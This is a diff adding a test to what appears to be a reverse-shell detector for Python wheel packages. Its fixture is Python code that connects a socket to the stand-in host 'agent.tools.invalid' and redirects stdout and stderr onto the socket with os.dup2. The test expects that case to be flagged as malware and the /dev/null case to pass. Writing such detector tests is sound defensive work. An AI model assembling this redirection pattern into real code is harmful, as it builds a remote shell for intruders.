@@ -140,3 +140,19 @@ test('a daemon that joins its own streams is no shell on a socket', async () => 
   expect(await inspect('reverse-shell', wheel({ 'pkg/__init__.py': joined('0') }))).toEqual([]);
   expect(await inspect('reverse-shell', wheel({ 'pkg/__init__.py': joined('s.fileno()') }))).not.toEqual([]);
 });
+
+test('streams led to a file that was opened are no shell for anybody, beside a client as well', async () => {
+  const file = (from: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, socket',
+        's = socket.create_connection(("agent.tools.invalid", 4000))',
+        `fd = ${from}`,
+        'os.dup2(fd, 1)',
+        'os.dup2(fd, 2)',
+      ),
+    });
+
+  expect(await inspect('reverse-shell', file('os.open(os.devnull, os.O_WRONLY)'))).toEqual([]);
+  expect(await inspect('reverse-shell', file('s.fileno()'))).toMatchObject([{ class: 'malware' }]);
+});
